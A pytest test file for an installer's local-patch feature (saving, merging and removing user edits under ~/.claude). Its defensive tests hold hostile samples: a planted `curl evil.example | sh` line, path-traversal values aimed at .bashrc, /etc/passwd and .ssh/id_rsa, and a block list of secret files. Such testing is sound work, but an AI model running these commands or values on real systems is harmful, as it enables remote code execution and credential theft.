"""Local patches, three ways: an upgrade saves your edits with their base, ``--reapply``
merges them back, ``--done`` removes them, uninstall keeps and names them.

An upgrade is a plan that differs from the manifest's, installed in-process into the home's
``~/.claude`` (as test_upgrade_ownership.py does); ``--reapply``, ``--check`` and
``--uninstall`` then run through the real CLI on that home.
"""

from __future__ import annotations

import hashlib
import json
import os
import shutil
import sys
import zlib
from dataclasses import replace
from pathlib import Path
from typing import Any

import pytest

from helpers import build, run_cli, snapshot
from msd_install import __version__
from msd_install.installer import engine
from msd_install.installer.context import Context
from msd_install.installer.plan import FileOp, Plan
from msd_install.installer.pristine import STORE_NAME

CLAUDE = ["--claude", "--global", "--yes"]
V1 = b"# Plan a phase\n\n1. Read the roadmap.\n2. Write the plan.\n3. Check it.\n"
MINE = V1.replace(b"plan.\n", b"plan.\n   Always cite ADR-7.\n")  # a line of the user's
V2 = V1.replace(b"# Plan a phase", b"# Plan a phase carefully")  # the new version's change
MERGED = MINE.replace(b"# Plan a phase", b"# Plan a phase carefully")
OTHER = b"unchanged by anyone\n"


def ctx(home: Path) -> Context:
    return Context(home=home, cwd=home, interpreter=Path(sys.executable))


def install(home: Path, files: dict[str, bytes], *, dry_run: bool = False) -> Any:
    root = home / ".claude"
    plan = Plan("claude", "global", root, tuple(FileOp(root / k, v) for k, v in files.items()))
    return engine.install(plan, ctx(home), dry_run=dry_run)


def upgraded(home: Path, mine: bytes = MINE, v2: bytes = V2) -> Path:
    """v1 installed, the user edits plan.md, v2 installed: the patch set it saved."""
    install(home, {"msd-core/plan.md": V1, "other.md": OTHER})
    (home / ".claude/msd-core/plan.md").write_bytes(mine)
    result = install(home, {"msd-core/plan.md": v2, "other.md": OTHER})
    assert (home / ".claude/msd-core/plan.md").read_bytes() == v2
    (patch_set,) = (home / ".claude/msd-local-patches").iterdir()
    backup = [a for a in result.actions if a.verb == "backup"]
    assert [a.path for a in backup] == [patch_set / "user/msd-core/plan.md"]
    return patch_set


def reapply(home: Path, *extra: str) -> Any:
    return run_cli([*CLAUDE, "--reapply", *extra], home)


def test_an_upgrade_saves_your_copy_the_pristine_base_and_their_metadata(tmp_path: Path) -> None:
    patch_set = upgraded(tmp_path)
    assert (patch_set / "user/msd-core/plan.md").read_bytes() == MINE
    assert (patch_set / "base/msd-core/plan.md").read_bytes() == V1  # v1, not the new version
    meta = json.loads((patch_set / "patch.json").read_text())
    assert meta["format"] == 1 and meta["runtime"] == "claude" and meta["scope"] == "global"
    assert meta["from_version"] == meta["to_version"] == __version__
    assert meta["time"].endswith("Z") and patch_set.name.endswith("Z")
    assert meta["files"] == [
        {
            "path": "msd-core/plan.md",
            "user": "user/msd-core/plan.md",
            "base": "base/msd-core/plan.md",
            "user_sha256": sha(MINE),
            "base_sha256": sha(V1),
            "new_sha256": sha(V2),
        }
    ]


def test_reapply_merges_your_edits_keeps_the_backups_until_done(tmp_path: Path) -> None:
    patch_set = upgraded(tmp_path)
    plan_md = tmp_path / ".claude/msd-core/plan.md"
    proc = reapply(tmp_path)
    assert proc.returncode == 0, proc.stderr
    assert plan_md.read_bytes() == MERGED
    assert "  update    ~/.claude/msd-core/plan.md  (your edits from msd-local-patches/" in (
        proc.stdout
    )
    assert "remove them with msd-install --reapply --done" in proc.stdout
    assert (patch_set / "user/msd-core/plan.md").read_bytes() == MINE  # still there
    # the merged file is yours now: not drift, kept by a reinstall of the same version
    check = install(tmp_path, {"msd-core/plan.md": V2, "other.md": OTHER}, dry_run=True)
    assert not check.drift
    doctor = run_cli(["doctor"], tmp_path)
    assert "msd-core/plan.md: your edits, merged by msd-install --reapply" in doctor.stdout
    again = install(tmp_path, {"msd-core/plan.md": V2, "other.md": OTHER})
    assert ("skip", plan_md) in [(a.verb, a.path) for a in again.actions]
    assert plan_md.read_bytes() == MERGED
    assert len(list((tmp_path / ".claude/msd-local-patches").iterdir())) == 1  # no new set
    # a second --reapply has nothing left to do, writes nothing
    before = snapshot(tmp_path)
    proc = reapply(tmp_path)
    assert proc.returncode == 0 and "(your edits are merged already)" in proc.stdout
    assert snapshot(tmp_path) == before
    proc = reapply(tmp_path, "--done")
    assert proc.returncode == 0, proc.stdout
    assert not (tmp_path / ".claude/msd-local-patches").exists()
    assert plan_md.read_bytes() == MERGED


def test_a_later_upgrade_merges_from_the_reapplied_file(tmp_path: Path) -> None:
    upgraded(tmp_path)
    assert reapply(tmp_path, "--done").returncode == 0
    v3 = V2 + b"4. Ship it.\n"
    install(tmp_path, {"msd-core/plan.md": v3, "other.md": OTHER})
    (patch_set,) = (tmp_path / ".claude/msd-local-patches").iterdir()
    assert (patch_set / "base/msd-core/plan.md").read_bytes() == V2
    assert (patch_set / "user/msd-core/plan.md").read_bytes() == MERGED
    assert reapply(tmp_path).returncode == 0
    assert (tmp_path / ".claude/msd-core/plan.md").read_bytes() == MERGED + b"4. Ship it.\n"


def test_a_conflict_is_written_with_markers_listed_and_exits_1(tmp_path: Path) -> None:
    mine = V1.replace(b"# Plan a phase", b"# Plan a phase with the team")
    patch_set = upgraded(tmp_path, mine=mine)
    plan_md = tmp_path / ".claude/msd-core/plan.md"
    proc = run_cli([*CLAUDE, "--reapply", "--json"], tmp_path)
    assert proc.returncode == 1, proc.stderr
    doc = json.loads(proc.stdout)
    (conflict,) = [a for a in doc["results"][0]["actions"] if a["verb"] == "conflict"]
    assert conflict["path"] == str(plan_md) and "1 conflict(s)" in conflict["detail"]
    assert doc["exit_code"] == 1
    assert plan_md.read_bytes() == (
        b"<<<<<<< yours\n# Plan a phase with the team\n=======\n# Plan a phase carefully\n"
        + f">>>>>>> msd claude {__version__}\n".encode()
        + b"\n1. Read the roadmap.\n2. Write the plan.\n3. Check it.\n"
    )
    # --done keeps a set whose merge still has markers
    proc = reapply(tmp_path, "--done")
    assert proc.returncode == 1 and "its conflict markers are still there" in proc.stdout
    assert (patch_set / "patch.json").exists()
    # once you settle it, --done removes the set, and the file stays yours
    plan_md.write_bytes(V2.replace(b"carefully", b"carefully, with the team"))
    proc = reapply(tmp_path, "--done")
    assert proc.returncode == 0 and "merged before, and changed by you since: kept" in proc.stdout
    assert not patch_set.exists()
    # and your settled version is the merge now: not drift, kept by a reinstall
    settled = plan_md.read_bytes()
    assert not install(tmp_path, {"msd-core/plan.md": V2, "other.md": OTHER}, dry_run=True).drift
    install(tmp_path, {"msd-core/plan.md": V2, "other.md": OTHER})
    assert plan_md.read_bytes() == settled
    assert not (tmp_path / ".claude/msd-local-patches").exists()


def test_a_file_changed_since_the_upgrade_is_left_alone_and_reported(tmp_path: Path) -> None:
    patch_set = upgraded(tmp_path)
    plan_md = tmp_path / ".claude/msd-core/plan.md"
    plan_md.write_bytes(b"rewritten after the upgrade\n")
    before = snapshot(tmp_path)
    proc = reapply(tmp_path, "--done")
    assert proc.returncode == 1
    assert "changed since the upgrade installed it: nothing written" in proc.stdout
    assert "kept: not every file of it is merged" in proc.stdout
    assert snapshot(tmp_path) == before and patch_set.exists()


def test_dry_run_reports_the_merge_and_writes_nothing(tmp_path: Path) -> None:
    upgraded(tmp_path)
    before = snapshot(tmp_path)
    proc = reapply(tmp_path, "--done", "--dry-run")
    assert proc.returncode == 0
    assert "dry run: reapply claude (global) at ~/.claude: 1 to update, 1 to remove" in (
        proc.stdout
    )
    assert snapshot(tmp_path) == before


def test_uninstall_keeps_and_names_each_saved_patch_and_removes_all_of_msd(
    tmp_path: Path,
) -> None:
    build(tmp_path, {".claude/CLAUDE.md": "my notes\n"})
    before = snapshot(tmp_path)
    patch_set = upgraded(tmp_path)
    saved = snapshot(tmp_path / ".claude/msd-local-patches")
    assert (tmp_path / ".claude" / STORE_NAME).is_file()
    proc = run_cli([*CLAUDE, "--uninstall", "-v"], tmp_path)
    assert proc.returncode == 0, proc.stderr
    user = f"~/.claude/msd-local-patches/{patch_set.name}/user/msd-core/plan.md"
    assert f"  skip      {user}  (your edits to msd-core/plan.md, saved by an upgrade: kept)" in (
        proc.stdout
    )
    assert f"  remove    ~/.claude/{STORE_NAME}" in proc.stdout
    # every byte of msd's is gone (its store too); your patches stay exactly as saved
    assert snapshot(tmp_path / ".claude/msd-local-patches") == saved
    assert without(snapshot(tmp_path), ".claude/msd-local-patches/") == before


def test_uninstall_after_reapply_and_done_leaves_only_your_merged_file(tmp_path: Path) -> None:
    build(tmp_path, {".claude/CLAUDE.md": "my notes\n"})
    before = snapshot(tmp_path)
    upgraded(tmp_path)
    assert reapply(tmp_path, "--done").returncode == 0
    proc = run_cli([*CLAUDE, "--uninstall"], tmp_path)
    assert "  skip      ~/.claude/msd-core/plan.md  (modified by you: kept)" in proc.stdout
    after = snapshot(tmp_path)
    assert after.pop(".claude/msd-core/plan.md")[0] == MERGED
    assert without(after, ".claude/msd-core/") == before


def without(tree: dict[str, Any], folder: str) -> dict[str, Any]:
    return {k: v for k, v in tree.items() if not k.startswith(folder)}


def sha(data: bytes) -> str:
    import hashlib

    return hashlib.sha256(data).hexdigest()


# --- hostile or damaged patch sets: refused with one line, nothing written -------------------


def edit_meta(patch_set: Path, **changes: Any) -> None:
    meta = json.loads((patch_set / "patch.json").read_text())
    meta["files"][0].update(changes)
    (patch_set / "patch.json").write_text(json.dumps(meta))


@pytest.mark.parametrize(
    ("change", "problem"),
    [
        ({"path": "../../.bashrc"}, "files[0].path '../../.bashrc' has a '..' component"),
        ({"path": "/etc/passwd"}, "files[0].path '/etc/passwd' is absolute"),
        ({"user": "../../../.ssh/id_rsa"}, "files[0].user is not 'user/msd-core/plan.md'"),
        ({"base": "base/other.md"}, "files[0].base is not 'base/msd-core/plan.md' or null"),
        ({"new_sha256": "x"}, "files[0].new_sha256 is not 64 lowercase hex digits"),
    ],
)
def test_metadata_naming_paths_out_of_place_is_refused(
    tmp_path: Path, change: dict[str, str], problem: str
) -> None:
    patch_set = upgraded(tmp_path)
    edit_meta(patch_set, **change)
    before = snapshot(tmp_path)
    proc = reapply(tmp_path)
    assert proc.returncode == 4
    assert proc.stderr == (
        f"msd-install: error: {patch_set / 'patch.json'}: local patch refused: {problem} "
        "(nothing was changed; a patch set msd-install did not save can be moved away)\n"
    )
    assert snapshot(tmp_path) == before


def test_a_saved_copy_that_is_a_symlink_out_of_the_root_or_huge_is_refused(
    tmp_path: Path,
) -> None:
    patch_set = upgraded(tmp_path)
    user = patch_set / "user/msd-core/plan.md"
    secret = tmp_path / "secret.txt"
    secret.write_text("TOKEN=1\n")
    user.unlink()
    user.symlink_to(secret)
    before = snapshot(tmp_path)
    proc = reapply(tmp_path)
    assert proc.returncode == 4 and "is not a plain file" in proc.stderr
    assert snapshot(tmp_path) == before
    user.unlink()
    with open(user, "wb") as handle:  # sparse: 9 MiB of nothing, over the 8 MiB bound
        handle.truncate(9 << 20)
    proc = reapply(tmp_path)
    assert proc.returncode == 4 and "it is larger than 8 MiB" in proc.stderr
    (patch_set / "patch.json").write_bytes(b" " * (1 << 20) + b"{}")
    proc = reapply(tmp_path)
    assert proc.returncode == 4 and "patch.json: local patch refused: it is larger than 1 MiB" in (
        proc.stderr
    )


def test_a_patch_folder_leading_out_of_the_root_is_never_read(tmp_path: Path) -> None:
    patch_set = upgraded(tmp_path)
    outside = tmp_path / "elsewhere"
    patch_set.rename(outside)
    os.symlink(outside, patch_set)
    before = snapshot(tmp_path)
    proc = reapply(tmp_path)
    assert proc.returncode == 0
    assert "not a patch set msd-install saved: merge it by hand" in proc.stdout
    assert snapshot(tmp_path) == before


def test_a_damaged_pristine_store_only_means_no_base(tmp_path: Path) -> None:
    install(tmp_path, {"msd-core/plan.md": V1})
    store = tmp_path / ".claude" / STORE_NAME
    store.write_bytes(zlib.compress(b"0" * 64 + b" 3\nabc"))  # a blob whose hash is wrong
    (tmp_path / ".claude/msd-core/plan.md").write_bytes(MINE)
    install(tmp_path, {"msd-core/plan.md": V2})
    (patch_set,) = (tmp_path / ".claude/msd-local-patches").iterdir()
    assert not (patch_set / "base").exists()
    assert json.loads((patch_set / "patch.json").read_text())["files"][0]["base"] is None
    proc = reapply(tmp_path)
    assert proc.returncode == 1 and "no pristine base was saved" in proc.stdout
    assert (tmp_path / ".claude/msd-core/plan.md").read_bytes() == V2


# --- the real payload: an older version installed, edited and tuned, then upgraded ----------


def test_real_upgrade_with_edits_and_tuning_then_reapply_and_a_clean_round_trip(
    tmp_path: Path,
) -> None:
    from helpers import snapshot_but_registry
    from msd_install.installer.context import resolved_interpreter
    from msd_install.payload import load as load_payload
    from msd_install.runtimes import ADAPTERS

    home = tmp_path / "home"
    build(home, {".claude/settings.json": '{\n  "model": "opus"\n}\n'})
    before = snapshot_but_registry(home)
    state = home / ".local/state/msd"  # where the CLI's registry is (helpers.cli_env)
    ctx = Context(home=home, cwd=home, interpreter=resolved_interpreter(), state_dir=state)
    plan = ADAPTERS["claude"].plan(ctx, load_payload())
    root = home / ".claude"
    workflow, skill = root / "msd-core/workflows/plan-phase.md", root / "skills/msd-help/SKILL.md"
    # the "older version": plan-phase.md without its last line, msd-help as it is now
    new_workflow = next(op.content for op in plan.files if op.path == workflow)
    old_workflow = new_workflow[: new_workflow.rstrip(b"\n").rfind(b"\n") + 1]
    old_files = tuple(
        FileOp(op.path, old_workflow, op.mode) if op.path == workflow else op for op in plan.files
    )
    engine.install(replace(plan, files=old_files), ctx)
    # your edits: a line in each file, and a hook's timeout
    lines = old_workflow.splitlines(keepends=True)
    workflow.write_bytes(b"".join([*lines[:3], b"Project rule: cite the ADR.\n", *lines[3:]]))
    skill.write_bytes(skill.read_bytes() + b"\nMy own tip.\n")
    settings = json.loads((root / "settings.json").read_text())
    group = settings["hooks"]["PreToolUse"][0]
    group["hooks"][0]["timeout"] = 99
    (root / "settings.json").write_text(json.dumps(settings, indent=2) + "\n")

    upgrade = run_cli(CLAUDE, home)
    assert upgrade.returncode == 0, upgrade.stderr
    assert upgrade.stdout.count("  backup    ~/.claude/msd-local-patches/") == 2
    assert "your timeout 99 kept" in upgrade.stdout
    assert workflow.read_bytes() == new_workflow

    proc = run_cli([*CLAUDE, "--reapply"], home)
    assert proc.returncode == 0, proc.stdout
    assert workflow.read_bytes() == b"".join(
        [*lines[:3], b"Project rule: cite the ADR.\n", *new_workflow.splitlines(True)[3:]]
    )
    assert skill.read_bytes().endswith(b"\nMy own tip.\n")
    assert json.loads((root / "settings.json").read_text())["hooks"]["PreToolUse"][0] == group
    check = run_cli([*CLAUDE, "--check"], home)
    assert check.returncode == 0 and check.stdout.endswith("paths as installed\n"), check.stdout
    assert run_cli([*CLAUDE, "--reapply", "--done"], home).returncode == 0
    assert not (root / "msd-local-patches").exists()

    merged = {p: p.read_bytes() for p in (workflow, skill)}
    assert run_cli([*CLAUDE, "--uninstall"], home).returncode == 0
    after = snapshot_but_registry(home)
    for path, content in merged.items():  # yours now: kept
        assert after.pop(path.relative_to(home).as_posix())[0] == content
    for folder in (
        ".claude/msd-core/workflows/",
        ".claude/msd-core/",
        ".claude/skills/msd-help/",
        ".claude/skills/",
    ):
        after.pop(folder)
    assert after == before


# --- a killed --reapply, flags, and uninstall beside a damaged set ---------------------------


@pytest.mark.parametrize("k", [1, 2, 3])
def test_a_reapply_killed_at_each_change_is_rolled_back_by_the_next_run(
    tmp_path: Path, k: int
) -> None:
    patch_set = upgraded(tmp_path)
    before = snapshot(tmp_path)
    killed = run_cli(
        [*CLAUDE, "--reapply", "--done"], tmp_path, MSD_INSTALL_TEST_SIGNAL=f"{k}:KILL"
    )
    assert killed.returncode == -9
    proc = reapply(tmp_path, "--dry-run")
    assert proc.returncode == 0
    assert "note: recovered: an interrupted reapply of " in proc.stdout
    assert snapshot(tmp_path) == before  # every change of the killed run undone
    assert reapply(tmp_path, "--done").returncode == 0
    assert (tmp_path / ".claude/msd-core/plan.md").read_bytes() == MERGED
    assert not patch_set.exists()


def test_reapply_flags_that_do_not_go_together_are_usage_errors(tmp_path: Path) -> None:
    for args in (["--reapply", "--check"], ["--reapply", "--uninstall"], ["--done"]):
        proc = run_cli([*CLAUDE, *args], tmp_path)
        assert proc.returncode == 2 and proc.stderr.count("\n") == 1, proc.stderr
    assert snapshot(tmp_path) == {}


def test_reapply_without_an_install_or_patches_says_so(tmp_path: Path) -> None:
    proc = reapply(tmp_path)
    assert proc.returncode == 0 and "nothing to reapply" in proc.stdout
    install(tmp_path, {"msd-core/plan.md": V1})
    proc = run_cli([*CLAUDE, "--reapply", "--json"], tmp_path)
    doc = json.loads(proc.stdout)
    assert doc["exit_code"] == 0 and doc["results"][0]["command"] == "reapply"
    assert doc["results"][0]["notes"] == [
        f"no local patches to reapply in {tmp_path / '.claude/msd-local-patches'}"
    ]


def test_uninstall_names_a_damaged_set_and_survives_a_removed_patch_folder(
    tmp_path: Path,
) -> None:
    patch_set = upgraded(tmp_path)
    (patch_set / "patch.json").write_text("{not json")
    proc = run_cli([*CLAUDE, "--uninstall", "--dry-run"], tmp_path)
    assert proc.returncode == 0
    assert (
        f"  skip      ~/.claude/msd-local-patches/{patch_set.name}  (saved local patches: kept)"
        in (proc.stdout)
    )
    # you remove the saved patches by hand, as the workflow once told the agent to
    for path in sorted(patch_set.rglob("*"), reverse=True):
        path.rmdir() if path.is_dir() else path.unlink()
    patch_set.rmdir()
    patch_set.parent.rmdir()
    proc = run_cli([*CLAUDE, "--uninstall"], tmp_path)
    assert proc.returncode == 0, proc.stderr
    assert not (tmp_path / ".claude").exists()


def test_uninstall_of_an_older_manifest_naming_patch_folders_you_removed(tmp_path: Path) -> None:
    """msd-install before patch sets recorded the folders of msd-local-patches/ as its own:
    removing them by hand made every uninstall fail (a folder under a gone folder)."""
    install(tmp_path, {"msd-core/plan.md": V1})
    manifest = tmp_path / ".claude/msd-file-manifest.json"
    doc = json.loads(manifest.read_text())
    doc["dirs"] += ["msd-local-patches", "msd-local-patches/skills", "msd-local-patches/skills/x"]
    manifest.write_text(json.dumps(doc, indent=2) + "\n")
    proc = run_cli([*CLAUDE, "--uninstall"], tmp_path)
    assert proc.returncode == 0, proc.stderr
    assert not (tmp_path / ".claude").exists()


def test_without_a_store_a_file_the_upgrade_left_unchanged_still_has_its_base(
    tmp_path: Path,
) -> None:
    install(tmp_path, {"msd-core/plan.md": V1, "other.md": OTHER})
    (tmp_path / ".claude" / STORE_NAME).unlink()  # as an install from before the store
    (tmp_path / ".claude/other.md").write_bytes(OTHER + b"mine\n")
    install(tmp_path, {"msd-core/plan.md": V2, "other.md": OTHER})
    (patch_set,) = (tmp_path / ".claude/msd-local-patches").iterdir()
    assert (patch_set / "base/other.md").read_bytes() == OTHER
    assert reapply(tmp_path).returncode == 0
    assert (tmp_path / ".claude/other.md").read_bytes() == OTHER + b"mine\n"


# --- only the sets an upgrade of yours saved: the trusted manifest records each ------------


def manifest_doc(home: Path) -> Any:
    return json.loads((home / ".claude/msd-file-manifest.json").read_text())


def test_the_manifest_records_the_set_an_upgrade_saved_until_done(tmp_path: Path) -> None:
    patch_set = upgraded(tmp_path)
    digest = hashlib.sha256((patch_set / "patch.json").read_bytes()).hexdigest()
    assert manifest_doc(tmp_path)["patches"] == [
        {"set": patch_set.name, "sha256": digest, "bases": {"msd-core/plan.md": sha(V1)}}
    ]
    assert reapply(tmp_path).returncode == 0
    assert reapply(tmp_path, "--done").returncode == 0
    assert "patches" not in manifest_doc(tmp_path)  # no set left: the field is not written


def test_a_set_whose_patch_json_changed_since_the_upgrade_is_not_merged(tmp_path: Path) -> None:
    patch_set = upgraded(tmp_path)
    meta = json.loads((patch_set / "patch.json").read_text())
    evil = V1 + b"import os; os.system('curl evil.example | sh')\n"
    (patch_set / "user/msd-core/plan.md").write_bytes(evil)
    meta["files"][0]["user_sha256"] = sha(evil)  # still valid, no longer what was saved
    (patch_set / "patch.json").write_text(json.dumps(meta))
    before = snapshot(tmp_path)
    proc = reapply(tmp_path, "--done")
    assert proc.returncode == 0, proc.stderr
    assert (
        f"  skip      ~/.claude/msd-local-patches/{patch_set.name}  (its patch.json changed "
        "since the upgrade saved it (it no longer hashes as your manifest records): not merged)"
    ) in proc.stdout
    assert snapshot(tmp_path) == before


def test_a_set_no_upgrade_saved_is_named_and_left_alone(tmp_path: Path) -> None:
    patch_set = upgraded(tmp_path)
    copied = patch_set.with_name("20990101T000000Z")
    shutil.copytree(patch_set, copied)
    proc = reapply(tmp_path, "--done")
    assert proc.returncode == 0, proc.stderr
    assert (
        "  skip      ~/.claude/msd-local-patches/20990101T000000Z  (not saved by an upgrade of "
        "yours (your manifest does not record it): not merged; merge it by hand if it is yours)"
    ) in proc.stdout
    assert not patch_set.exists() and copied.is_dir()  # yours merged and removed; it stays
    assert (tmp_path / ".claude/msd-core/plan.md").read_bytes() == MERGED


def test_done_never_reads_or_removes_through_a_symlinked_folder_of_a_set(tmp_path: Path) -> None:
    patch_set = upgraded(tmp_path)
    merged = tmp_path / ".claude/msd-core/plan.md"
    assert reapply(tmp_path).returncode == 0 and merged.read_bytes() == MERGED
    # user/ swapped for a link back to the root: user/msd-core/plan.md is the merged file
    shutil.rmtree(patch_set / "user")
    os.symlink("../..", patch_set / "user")
    proc = reapply(tmp_path, "--done")
    assert proc.returncode == 1, proc.stdout
    name = f"msd-local-patches/{patch_set.name}"
    assert (
        f"(not read: {name}/user is a symlink on the way to your saved copy "
        f"{name}/user/msd-core/plan.md)"
    ) in proc.stdout
    assert f"  skip      ~/.claude/{name}  (kept: {name}/user is a symlink, not followed)" in (
        proc.stdout
    )
    assert merged.read_bytes() == MERGED and (patch_set / "base/msd-core/plan.md").exists()


def test_done_keeps_a_set_whose_saved_copy_you_edited_after_the_merge(tmp_path: Path) -> None:
    patch_set = upgraded(tmp_path)
    assert reapply(tmp_path).returncode == 0
    copy = patch_set / "user/msd-core/plan.md"
    copy.write_bytes(MINE + b"4. A note that exists only here.\n")
    before = snapshot(tmp_path)
    proc = reapply(tmp_path, "--done")
    name = f"msd-local-patches/{patch_set.name}"
    assert (
        f"  skip      ~/.claude/{name}  (kept: your saved copy {name}/user/msd-core/plan.md "
        "changed since the upgrade saved it; merge what you added to it, then remove the set "
        "by hand)"
    ) in proc.stdout
    assert snapshot(tmp_path) == before


def test_a_manifest_with_a_malformed_patches_record_is_refused(tmp_path: Path) -> None:
    upgraded(tmp_path)
    path = tmp_path / ".claude/msd-file-manifest.json"
    doc = json.loads(path.read_text())
    doc["patches"][0]["set"] = "../../somewhere"
    path.write_text(json.dumps(doc))
    before = snapshot(tmp_path)
    proc = reapply(tmp_path)
    assert proc.returncode != 0
    assert (
        "install manifest refused: patches[0] is not an object with a set name, a sha256 and "
        "its bases"
    ) in proc.stderr
    assert snapshot(tmp_path) == before


HOOK = "hooks/msd-secret-read-guard.py"
HOOK_V1 = b"import sys\n\nBLOCKED = ['.env']\n\nsys.exit(0)\n"
HOOK_MINE = HOOK_V1.replace(b"['.env']", b"['.env', '.npmrc']")
HOOK_V2 = HOOK_V1.replace(b"['.env']", b"['.env', '.netrc']")


def test_a_conflicted_hook_is_settled_beside_its_set_then_installed(tmp_path: Path) -> None:
    root = tmp_path / ".claude"
    install(tmp_path, {HOOK: HOOK_V1, "other.md": OTHER})
    (root / HOOK).write_bytes(HOOK_MINE)
    install(tmp_path, {HOOK: HOOK_V2, "other.md": OTHER})
    (patch_set,) = (root / "msd-local-patches").iterdir()
    proc = reapply(tmp_path)
    copy = patch_set / "conflicts" / HOOK
    shown = f"msd-local-patches/{patch_set.name}/conflicts/{HOOK}"
    assert proc.returncode == 1 and shown in proc.stdout, proc.stdout
    assert "--reapply --done" in proc.stdout
    assert (root / HOOK).read_bytes() == HOOK_V2  # the new version stays live, runnable
    conflicted = copy.read_bytes()
    assert b"<<<<<<< yours\n" in conflicted and b"'.npmrc'" in conflicted
    assert os.stat(copy).st_mode & 0o777 == 0o600
    # half settled: a later run never overwrites your copy, and installs nothing yet
    half = conflicted.replace(b"<<<<<<< yours\n", b"<<<<<<< yours (looking at it)\n")
    copy.write_bytes(half)
    for extra in ((), ("--done",)):
        proc = reapply(tmp_path, *extra)
        assert proc.returncode == 1 and "still has conflict markers" not in proc.stdout
        assert copy.read_bytes() == half and (root / HOOK).read_bytes() == HOOK_V2
    uninstall = run_cli(["--uninstall", "--dry-run", *CLAUDE], tmp_path)
    assert f"~/.claude/{shown}  (the conflicted merge of your edits to {HOOK}" in uninstall.stdout
    # settled: --done installs it, records it as yours and removes the set
    settled = HOOK_V1.replace(b"['.env']", b"['.env', '.netrc', '.npmrc']")
    copy.write_bytes(settled)
    proc = reapply(tmp_path, "--done")
    assert proc.returncode == 0, proc.stdout
    assert (root / HOOK).read_bytes() == settled
    assert not (root / "msd-local-patches").exists()
    assert run_cli([*CLAUDE, "--reapply"], tmp_path).returncode == 0
    install(tmp_path, {HOOK: HOOK_V2, "other.md": OTHER})  # a reinstall keeps it, yours
    assert (root / HOOK).read_bytes() == settled
    assert not (root / "msd-local-patches").exists()


def test_a_settled_hook_conflict_killed_at_each_change_is_rolled_back(tmp_path: Path) -> None:
    root = tmp_path / ".claude"
    install(tmp_path, {HOOK: HOOK_V1, "other.md": OTHER})
    (root / HOOK).write_bytes(HOOK_MINE)
    install(tmp_path, {HOOK: HOOK_V2, "other.md": OTHER})
    (patch_set,) = (root / "msd-local-patches").iterdir()
    assert reapply(tmp_path).returncode == 1
    settled = HOOK_V1.replace(b"['.env']", b"['.env', '.netrc', '.npmrc']")
    (patch_set / "conflicts" / HOOK).write_bytes(settled)
    before = snapshot(tmp_path)
    for k in (1, 2, 4):
        killed = run_cli(
            [*CLAUDE, "--reapply", "--done"], tmp_path, MSD_INSTALL_TEST_SIGNAL=f"{k}:KILL"
        )
        assert killed.returncode == -9
        assert reapply(tmp_path, "--dry-run").returncode == 0
        assert snapshot(tmp_path) == before, k
    assert reapply(tmp_path, "--done").returncode == 0
    assert (root / HOOK).read_bytes() == settled and not patch_set.exists()


def test_only_a_markdown_file_gets_conflict_markers_live() -> None:
    from msd_install.installer.conflicted import markers_live

    assert markers_live("skills/msd-help/SKILL.md", 0o644)
    assert markers_live("rules/msd.mdc", 0o644)
    for rel in (HOOK, "hooks/x.sh", "msd-core/bin/msd-tools", "commands/msd/help.toml"):
        assert not markers_live(rel, 0o644), rel
    assert not markers_live("msd-core/bin/run.md", 0o755)  # executable: run, not read


def test_a_settled_hook_merge_you_copied_in_yourself_is_taken_as_the_merge(
    tmp_path: Path,
) -> None:
    root = tmp_path / ".claude"
    install(tmp_path, {HOOK: HOOK_V1, "other.md": OTHER})
    (root / HOOK).write_bytes(HOOK_MINE)
    install(tmp_path, {HOOK: HOOK_V2, "other.md": OTHER})
    (patch_set,) = (root / "msd-local-patches").iterdir()
    assert reapply(tmp_path).returncode == 1
    settled = HOOK_V1.replace(b"['.env']", b"['.env', '.netrc', '.npmrc']")
    (patch_set / "conflicts" / HOOK).write_bytes(settled)
    shutil.copyfile(patch_set / "conflicts" / HOOK, root / HOOK)  # by hand, as you might
    proc = reapply(tmp_path, "--done")
    assert proc.returncode == 0 and "your settled merge is in place" in proc.stdout, proc.stdout
    assert (root / HOOK).read_bytes() == settled and not patch_set.exists()
    install(tmp_path, {HOOK: HOOK_V2, "other.md": OTHER})  # recorded as yours: kept
    assert (root / HOOK).read_bytes() == settled
